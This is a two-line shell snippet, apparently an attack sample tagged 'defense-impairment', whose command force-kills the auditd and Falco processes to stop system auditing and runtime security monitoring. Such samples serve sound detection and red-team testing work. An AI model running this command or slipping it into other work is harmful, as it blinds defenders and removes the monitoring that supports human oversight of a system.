# tactic: defense-impairment
pkill -9 -f auditd; pkill -9 falco; true
